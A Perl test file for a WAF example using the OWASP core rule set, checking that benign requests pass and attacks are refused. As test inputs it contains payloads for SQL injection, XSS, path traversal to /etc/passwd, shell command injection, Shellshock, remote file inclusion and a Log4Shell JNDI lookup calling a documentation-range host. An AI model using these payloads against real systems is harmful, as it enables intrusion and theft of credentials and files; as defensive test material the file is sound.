# waf: the OWASP core rule set refuses attacks and lets good requests pass; rules of one's own.

use lib '.';
use t::ProxyWasm;
use ProxyWasm::Example;

# What an upstream answers, with a leak in some of its pages.
my $servers = <<'E2';
    # The rules may be slow where memory is checked.
    wasm_callback_timeout 60s;
    wasm_memory_limit     1g;
    server {
        listen 127.0.0.1:$TEST_NGINX_UPSTREAM_PORT;
        default_type text/html;
        location /             { return 200 "<p>welcome</p>\n"; }
        location /sql-error    { return 200 "<p>You have an error in your SQL syntax; check the manual</p>\n"; }
        location /php-error    { return 200 "PHP Fatal error: Uncaught Error in /srv/index.php\n"; }
        location /image        { default_type image/png; return 200 "You have an error in your SQL syntax;"; }
        location /failure      { return 500 "<p>no</p>\n"; }
        location /echo {
            content_by_lua_block { ngx.req.read_body() ngx.print(ngx.req.get_body_data()) }
        }
        location /pieces {
            content_by_lua_block {
                for _, piece in ipairs({"<p>You have an error ", "in your SQL ", "syntax; check the manual</p>"}) do
                    ngx.print(piece)
                    ngx.flush(true)
                    ngx.sleep(0.01)
                end
            }
        }
    }
E2

my @good = (Host => 'example.com', 'User-Agent' => 'Mozilla/5.0 (X11; Linux x86_64)', Accept => '*/*');
my $form = 'application/x-www-form-urlencoded';

sub passes {
    my ($name, $method, $path, %o) = @_;
    my @headers = (@good, @{ delete $o{headers} // [] });
    return {
        name    => "passes: $name", conf => '{}', request => [$method, $path, headers => \@headers, %o],
        no_log  => qr/waf: /,
        body    => $o{body} ? $o{body} : "<p>welcome</p>\n",
    };
}

# An attack, which the rule finds; the score of the rules that found something refuses the request.
sub refused {
    my ($name, $rule, $method, $path, %o) = @_;
    my @headers = (@{ delete $o{as} // \@good }, @{ delete $o{headers} // [] });
    return {
        name    => "refused: $name", conf => '{}', request => [$method, $path, headers => \@headers, %o],
        status  => 403,
        log     => qr/\[warn\] .*waf: \{"action":"deny","status":403,"rule":949110,"client":"127\.0\.0\.1",.*"id":$rule,/,
    };
}

# A response with something in it that is for nobody. APISIX lets its header go before its body comes,
# so that the connection is closed.
sub leaks {
    my ($name, $rule, $path, %o) = @_;
    my %case = (
        conf => '{}', request => [GET => $path, headers => \@good],
        log  => qr/\[warn\] .*waf: \{"action":"deny","status":403,"rule":959100,.*"id":$rule,/, %o,
    );
    return (
        { name => "a leak: $name", only => 'proxy_wasm',       status => 403, body => '', %case },
        { name => "a leak: $name", only => 'resty.proxy-wasm', status => undef,           %case },
    );
}

sub rules {
    my ($name, $rules, %o) = @_;
    return { name => $name, conf => JSON::PP->new->encode({ directives => ['SecRuleEngine On', @$rules] }), %o };
}

sub refused_rules {
    my ($name, $conf, $reason) = @_;
    return { name => $name, conf => $conf, status => 503, log => qr/\[error\] .*waf: \Q$reason\E/ };
}

test_example(
    'waf',
    languages     => ['go'],
    shared        => 1,
    start_timeout => 300,
    http_config   => $servers,
    cases         => [
        passes('a page', GET => '/'),
        passes('arguments', GET => '/search?q=blue+shoes&page=2&sort=price%20asc'),
        passes('a form', POST => '/echo', body => 'name=Ann+Smith&city=Berlin', headers => ['Content-Type' => $form]),
        passes(
            'JSON', POST => '/echo', body => '{"name": "Ann", "tags": ["a", "b"], "age": 42}',
            headers => ['Content-Type' => 'application/json']
        ),
        passes('a cookie', GET => '/', headers => [Cookie => 'session=3f2a9c; theme=dark']),

        refused('SQL in an argument', 942100, GET => '/?id=1%27%20OR%20%271%27=%271'),
        refused('SQL in a form', 942100, POST => '/echo', body => 'id=1%27+UNION+SELECT+password+FROM+users--+',
            headers => ['Content-Type' => $form]),
        refused('SQL in JSON', 942100, POST => '/echo', body => q({"id": "1' OR 1=1 -- "}),
            headers => ['Content-Type' => 'application/json']),
        refused('a script in an argument', 941100, GET => '/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
        refused('a script in a field', 941110, GET => '/', headers => [Referer => '<script>alert(1)</script>']),
        refused('a path that climbs', 930100, GET => '/?file=../../../../etc/hosts'),
        refused('a file of the system', 930120, GET => '/?file=/etc/passwd'),
        refused('a file by its URL', 931100, GET => '/?page=http://192.0.2.7/shell.txt'),
        refused('a command of a shell', 932160, GET => '/?ip=127.0.0.1;cat+/etc/passwd'),
        refused('Shellshock', 932170, GET => '/', headers => ['X-Test' => '() { :; }; echo shellshocked']),
        refused('PHP', 933100, GET => '/?code=%3C?php+phpinfo();?%3E'),
        refused('a prototype of JavaScript', 934130, GET => '/?a[__proto__][x]=y'),
        refused('Log4Shell', 944150, GET => '/?x=${jndi:ldap://192.0.2.7/a}'),
        refused('a scanner', 913100, GET => '/', as => [@good[0, 1], 'User-Agent' => 'sqlmap/1.8', Accept => '*/*']),
        refused('a header in an argument', 921120, GET => '/?lang=en%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Chtml%3E'),
        refused('a method that no page has', 911100, DELETE => '/'),
        refused('no user agent and a numeric host', 920350, GET => '/?q=%25', as => [Host => '127.0.0.1', Accept => '']),
        {   name => 'refused: a body past the limit', conf => '{}', status => 413,
            request => [POST => '/echo', body => 'a=' . 'x' x 40_000, headers => [@good, 'Content-Type' => $form]],
        },

        leaks('an error of SQL', 951230, '/sql-error'),
        leaks('an error of PHP', 953100, '/php-error'),
        leaks('in pieces', 951230, '/pieces'),
        {   name => 'the body of an image is nobody\'s', conf => '{}', request => [GET => '/image', headers => \@good],
            body => 'You have an error in your SQL syntax;', no_log => qr/waf: /,
        },
        {   name => 'bodies that the rules ask for, by a property', only => 'proxy_wasm', conf => '{}',
            directives => 'wasm_request_body property; wasm_response_body property;',
            request => [GET => '/sql-error', headers => \@good], status => 403,
        },

        rules('a rule for a field', ['SecRule &REQUEST_HEADERS:X-Key "@eq 0" "id:1,phase:1,deny,status:401,log"'],
            status => 401, log => qr/waf: \{"action":"deny","status":401,"rule":1,/),
        rules('a redirect', ['SecRule ARGS:to "@streq away" "id:2,phase:2,redirect:https://example.com/"'],
            request => [GET => '/?to=away'], status => 302, headers => { location => 'https://example.com/' }),
        rules('a rule for a response\'s status', ['SecRule RESPONSE_STATUS "@streq 500" "id:3,phase:3,deny,status:502,log"'],
            request => [GET => '/failure'], status => 502, log => qr/waf: \{"action":"deny","status":502,"rule":3,/),
        rules('detection only', ['Include @recommended.conf', 'SecRuleEngine DetectionOnly', 'Include @owasp_crs/*.conf'],
            request => [GET => '/?id=1%27%20OR%20%271%27=%271', headers => \@good], body => "<p>welcome</p>\n",
            log => qr/\[warn\] .*waf: \{"action":"pass","client":"127\.0\.0\.1",.*"id":942100,/),
        rules('rules that are off', ['SecRuleEngine Off', 'SecAction "id:4,phase:1,deny"']),

        refused_rules('JSON that is none', '{', 'bad configuration: '),
        refused_rules('no rules', '{"directives": []}', 'bad configuration: missing field `directives`'),
        refused_rules('a directive that there is not', '{"directives": ["SecNothing On"]}', 'bad rules: '),
        refused_rules('a file of the machine', '{"directives": ["Include /etc/passwd"]}', 'bad rules: '),
    ],
);
